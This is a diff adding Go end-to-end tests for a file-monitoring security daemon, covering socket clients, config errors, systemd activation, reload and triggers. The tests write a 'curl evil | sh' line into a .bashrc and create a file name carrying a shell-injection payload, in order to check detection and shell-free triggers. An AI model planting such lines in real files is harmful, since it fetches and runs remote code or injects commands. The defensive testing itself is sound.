@@ -1,0 +1,343 @@
+package e2e_test
+
+import (
+	"bufio"
+	"errors"
+	"fmt"
+	"net"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"syscall"
+	"testing"
+	"time"
+
+	"github.com/pantheros/secmon/service/internal/event"
+)
+
+// Files made in a nested tree created after start-up reach a socket client:
+// every directory and file, each once.
+func TestNestedTreeCreatedAfterStartReachesClient(t *testing.T) {
+	e := newEnv(t)
+	e.writeConfig(t, "")
+	startDaemon(t, []string{e.config})
+	s := connect(t, e.socket)
+	s.send(`{"replay_after":0}`) // everything since start: no race with subscribing
+
+	deep := filepath.Join(e.tree, "a", "b", "c", "d")
+	if err := os.MkdirAll(deep, 0o755); err != nil {
+		t.Fatal(err)
+	}
+	var want []string
+	for _, dir := range []string{"a", "a/b", "a/b/c", "a/b/c/d"} {
+		want = append(want, filepath.Join(e.tree, dir))
+		f := filepath.Join(e.tree, dir, "file")
+		if err := os.WriteFile(f, []byte("x"), 0o644); err != nil {
+			t.Fatal(err)
+		}
+		want = append(want, f)
+	}
+	sentinel := filepath.Join(e.tree, "sentinel")
+	os.WriteFile(sentinel, nil, 0o644)
+
+	seen := map[string]int{}
+	for _, ev := range s.until(pathIs(sentinel)) {
+		if ev.Type == event.FileCreate {
+			seen[ev.Path]++
+		}
+		if ev.Seq == 0 {
+			t.Errorf("event without seq: %+v", ev)
+		}
+	}
+	for _, p := range want {
+		if seen[p] != 1 {
+			t.Errorf("%s: FileCreate seen %d times, want 1", p, seen[p])
+		}
+	}
+}
+
+func TestClientBinaryFiltersAndCounts(t *testing.T) {
+	e := newEnv(t)
+	e.writeConfig(t, "")
+	d := startDaemon(t, []string{"--config", e.config})
+	_ = d
+	os.WriteFile(filepath.Join(e.tree, "low"), nil, 0o644)
+	os.Mkdir(filepath.Join(e.tree, ".ssh"), 0o700)
+	os.WriteFile(filepath.Join(e.tree, ".ssh", "authorized_keys"), []byte("ssh-ed25519 AAAA"), 0o600)
+
+	out, err := exec.Command(filepath.Join(bin, "secmon-client"), "--socket", e.socket,
+		"--replay-after", "0", "--min-severity", "Critical", "--count", "1").Output()
+	if err != nil {
+		t.Fatalf("secmon-client: %v", err)
+	}
+	lines := strings.Split(strings.TrimSpace(string(out)), "\n")
+	if len(lines) != 1 {
+		t.Fatalf("got %d lines, want 1:\n%s", len(lines), out)
+	}
+	var ev event.Event
+	if err := ev.UnmarshalJSON([]byte(lines[0])); err != nil {
+		t.Fatal(err)
+	}
+	if ev.Type != event.SshAccess || ev.Severity != event.Critical || !strings.HasSuffix(ev.Path, "authorized_keys") {
+		t.Fatalf("got %+v, want the Critical SshAccess for authorized_keys", ev)
+	}
+	if !strings.Contains(lines[0], `"event_type":{"type":"SshAccess"}`) {
+		t.Fatalf("line does not keep the seed's shape: %s", lines[0])
+	}
+}
+
+func TestClientWithoutDaemonSaysSo(t *testing.T) {
+	dir := shortTempDir(t)
+	cmd := exec.Command(filepath.Join(bin, "secmon-client"), "--socket", filepath.Join(dir, "none.sock"))
+	out, err := cmd.CombinedOutput()
+	var ee *exec.ExitError
+	if !errorsAs(err, &ee) || ee.ExitCode() != 1 {
+		t.Fatalf("exit = %v, want status 1; output %s", err, out)
+	}
+	if !strings.Contains(string(out), "is it running?") || !strings.Contains(string(out), "none.sock") {
+		t.Fatalf("message %q does not say the daemon is not running and where it looked", out)
+	}
+}
+
+func TestBadConfigIsRejectedWithItsLine(t *testing.T) {
+	e := newEnv(t)
+	e.writeConfig(t, "\n[[watches]]\npath = \"/tmp\"\nrecursiv = true\n")
+	d := launch(t, exec.Command(filepath.Join(bin, "secmon-daemon"), e.config))
+	err := d.wait()
+	var ee *exec.ExitError
+	if !errorsAs(err, &ee) || ee.ExitCode() == 0 {
+		t.Fatalf("daemon exit = %v, want non-zero", err)
+	}
+	// The base config is 16 lines, then a blank line: the typo is on line 20.
+	want := e.config + ":20:1: key watches.recursiv: unknown key"
+	if !strings.Contains(d.stderr.String(), want) {
+		t.Fatalf("stderr %q does not contain %q", d.stderr.String(), want)
+	}
+}
+
+// A line written by one client is never seen by another.
+func TestForgedLineDoesNotReachOtherClients(t *testing.T) {
+	e := newEnv(t)
+	e.writeConfig(t, "")
+	startDaemon(t, []string{e.config})
+	reader := connect(t, e.socket)
+	reader.send(`{"replay_after":0}`)
+	forger := connect(t, e.socket)
+	forger.send(`{"timestamp":"2025-01-01T00:00:00.000Z","event_type":{"type":"SshAccess"},"path":"/forged","details":{"severity":"Critical","description":"forged","metadata":{}}}`)
+	real := filepath.Join(e.tree, "real")
+	os.WriteFile(real, nil, 0o644)
+	for _, ev := range reader.until(pathIs(real)) {
+		if ev.Path == "/forged" {
+			t.Fatalf("forged event reached another client: %+v", ev)
+		}
+	}
+}
+
+// A client that never reads does not delay another.
+func TestStuckClientDoesNotDelayAnother(t *testing.T) {
+	e := newEnv(t)
+	e.writeConfig(t, "", "client_queue = 64\n")
+	startDaemon(t, []string{e.config})
+	stuck := connect(t, e.socket)
+	_ = stuck
+	live := connect(t, e.socket)
+	live.send(`{"replay_after":0,"types":["FileCreate"]}`)
+	const n = 2000
+	for i := range n {
+		if err := os.WriteFile(filepath.Join(e.tree, fmt.Sprintf("f%04d", i)), nil, 0o644); err != nil {
+			t.Fatal(err)
+		}
+		// Pace the writer by the live client so its own queue never fills.
+		if i%32 == 31 {
+			live.until(pathIs(filepath.Join(e.tree, fmt.Sprintf("f%04d", i))))
+		}
+	}
+	last := filepath.Join(e.tree, fmt.Sprintf("f%04d", n-1))
+	live.until(pathIs(last))
+}
+
+// systemd-socket-activate hands over the socket; the daemon starts on the
+// first connection and serves it.
+func TestSocketActivation(t *testing.T) {
+	if _, err := exec.LookPath("systemd-socket-activate"); err != nil {
+		t.Skip("systemd-socket-activate is not installed (Debian package systemd)")
+	}
+	e := newEnv(t)
+	e.writeConfig(t, "")
+	cmd := exec.Command("systemd-socket-activate", "-l", e.socket, "--fdname=secmon",
+		"-E", "NOTIFY_SOCKET", "-E", "WATCHDOG_USEC=400000",
+		filepath.Join(bin, "secmon-daemon"), e.config)
+	d := launch(t, cmd)
+	s := connectRetry(t, e.socket, d) // the first connection starts the daemon
+	d.notify.waitFor("READY=1")
+	s.send(`{"replay_after":0}`)
+	f := filepath.Join(e.tree, "activated")
+	os.WriteFile(f, nil, 0o644)
+	s.until(pathIs(f))
+	d.notify.waitFor("WATCHDOG=1")
+	if !strings.Contains(d.stderr.String(), "socket_activated=true") {
+		t.Fatalf("daemon did not report using the inherited socket:\n%s", d.stderr.String())
+	}
+}
+
+// sd_notify: READY=1 with a STATUS, WATCHDOG=1 at the asked interval,
+// STOPPING=1 on SIGTERM, and exit 0.
+func TestSdNotify(t *testing.T) {
+	e := newEnv(t)
+	e.writeConfig(t, "")
+	d := launch(t, exec.Command(filepath.Join(bin, "secmon-daemon"), e.config), "WATCHDOG_USEC=200000")
+	d.notify.waitFor("READY=1")
+	os.WriteFile(filepath.Join(e.tree, "x"), nil, 0o644)
+	st := d.notify.waitFor("STATUS=")
+	if !strings.Contains(st, "events") || !strings.Contains(st, "dropped") || !strings.Contains(st, "clients") {
+		t.Fatalf("STATUS line %q lacks counts", st)
+	}
+	d.notify.waitFor("WATCHDOG=1")
+	d.cmd.Process.Signal(syscall.SIGTERM)
+	d.notify.waitFor("STOPPING=1")
+	if err := d.wait(); err != nil {
+		t.Fatalf("exit after SIGTERM: %v", err)
+	}
+}
+
+// SIGHUP reloads: a bad config is refused and the old one keeps working; a
+// good one takes effect.
+func TestReloadOnSighup(t *testing.T) {
+	e := newEnv(t)
+	e.writeConfig(t, "")
+	d := startDaemon(t, []string{e.config})
+	s := connect(t, e.socket)
+	s.send(`{"replay_after":0}`)
+
+	os.WriteFile(e.config, []byte("socket_path = 42\n"), 0o644)
+	d.cmd.Process.Signal(syscall.SIGHUP)
+	refusal := s.until(func(ev event.Event) bool {
+		return ev.Type == event.MonitorStatus && ev.Metadata["state"] == "reload-failed"
+	})
+	if r := refusal[len(refusal)-1]; !strings.Contains(r.Description, e.config+":1:15") {
+		t.Fatalf("reload refusal %q does not name file and line", r.Description)
+	}
+	d.notify.waitFor("READY=1") // a refused reload ends with READY=1 too
+	still := filepath.Join(e.tree, "still-watched")
+	os.WriteFile(still, nil, 0o644)
+	s.until(pathIs(still))
+
+	other := filepath.Join(e.dir, "other")
+	os.Mkdir(other, 0o755)
+	e.writeConfig(t, fmt.Sprintf("\n[[watches]]\npath = %q\n", other))
+	d.cmd.Process.Signal(syscall.SIGHUP)
+	d.notify.waitFor("READY=1")
+	added := filepath.Join(other, "new-watch")
+	os.WriteFile(added, nil, 0o644)
+	s.until(pathIs(added))
+}
+
+// Sequence numbers resume above the last one after a restart.
+func TestSeqResumesAfterRestart(t *testing.T) {
+	e := newEnv(t)
+	e.writeConfig(t, "")
+	d := startDaemon(t, []string{e.config})
+	s := connect(t, e.socket)
+	s.send(`{"replay_after":0}`)
+	f := filepath.Join(e.tree, "one")
+	os.WriteFile(f, nil, 0o644)
+	first := s.until(pathIs(f))
+	last := first[len(first)-1].Seq
+	s.conn.Close()
+	d.stop()
+
+	startDaemon(t, []string{e.config})
+	s = connect(t, e.socket)
+	s.send(`{"replay_after":0}`)
+	ev := s.next()
+	if ev.Type == event.EventsDropped {
+		ev = s.next() // the notice that events from before the restart are not kept
+	}
+	if ev.Seq <= last {
+		t.Fatalf("after restart seq %d, want above %d", ev.Seq, last)
+	}
+}
+
+// User mode: no config, an ordinary user's layout, SSH keys watched.
+func TestUserModeWatchesHome(t *testing.T) {
+	dir := shortTempDir(t)
+	home := filepath.Join(dir, "home")
+	runtime := filepath.Join(dir, "rt")
+	os.MkdirAll(filepath.Join(home, ".ssh"), 0o700)
+	os.Mkdir(runtime, 0o700)
+	d := startDaemon(t, []string{"--user", "--print"}, "HOME="+home, "XDG_RUNTIME_DIR="+runtime, "XDG_STATE_HOME="+filepath.Join(dir, "state"))
+	socket := filepath.Join(runtime, "secmon", "secmon.sock")
+	s := connect(t, socket)
+	s.send(`{"replay_after":0}`)
+	keys := filepath.Join(home, ".ssh", "authorized_keys")
+	os.WriteFile(keys, []byte("ssh-ed25519 AAAA"), 0o600)
+	got := s.until(pathIs(keys))
+	if ev := got[len(got)-1]; ev.Type != event.SshAccess || ev.Severity != event.Critical {
+		t.Fatalf("got %+v, want a Critical SshAccess", ev)
+	}
+	bashrc := filepath.Join(home, ".bashrc")
+	os.WriteFile(bashrc, []byte("curl evil | sh\n"), 0o644)
+	s.until(pathIs(bashrc))
+	deadline := time.Now().Add(10 * time.Second)
+	for !strings.Contains(d.stdout.String(), "authorized_keys") {
+		if time.Now().After(deadline) {
+			t.Fatalf("--print did not show the event on stdout:\n%s", d.stdout.String())
+		}
+		time.Sleep(10 * time.Millisecond)
+	}
+	fi, err := os.Stat(socket)
+	if err != nil || fi.Mode().Perm() != 0o600 {
+		t.Fatalf("user-mode socket mode = %v, %v; want 0600", fi.Mode().Perm(), err)
+	}
+}
+
+func TestTriggerRunsWithoutShell(t *testing.T) {
+	e := newEnv(t)
+	out := filepath.Join(e.dir, "out")
+	os.Mkdir(out, 0o755)
+	e.writeConfig(t, fmt.Sprintf(`
+[[triggers]]
+name = "copy"
+event_types = ["FileCreate"]
+command = "/bin/cp"
+args = ["{path}", %q]
+`, out+"/"))
+	startDaemon(t, []string{e.config})
+	hostile := filepath.Join(e.tree, "a b;touch PWNED;$(id)")
+	os.WriteFile(hostile, []byte("copied"), 0o644)
+	copied := filepath.Join(out, filepath.Base(hostile))
+	deadline := time.Now().Add(15 * time.Second)
+	for {
+		if b, err := os.ReadFile(copied); err == nil && string(b) == "copied" {
+			break
+		}
+		if time.Now().After(deadline) {
+			t.Fatalf("trigger did not copy %q", hostile)
+		}
+		time.Sleep(10 * time.Millisecond)
+	}
+	if _, err := os.Stat(filepath.Join(e.tree, "PWNED")); err == nil {
+		t.Fatal("event text reached a shell")
+	}
+}
+
+// connectRetry connects once systemd-socket-activate listens: the path
+// exists from bind(), connections succeed from listen().
+func connectRetry(t *testing.T, p string, d *daemonProc) *stream {
+	t.Helper()
+	deadline := time.Now().Add(10 * time.Second)
+	for {
+		c, err := net.Dial("unix", p)
+		if err == nil {
+			t.Cleanup(func() { c.Close() })
+			return &stream{t: t, conn: c, r: bufio.NewReaderSize(c, 1<<20)}
+		}
+		if time.Now().After(deadline) {
+			t.Fatalf("cannot connect to %s: %v; stderr:\n%s", p, err, d.stderr.String())
+		}
+		time.Sleep(5 * time.Millisecond)
+	}
+}
+
+func errorsAs(err error, target any) bool { return err != nil && errors.As(err, target) }
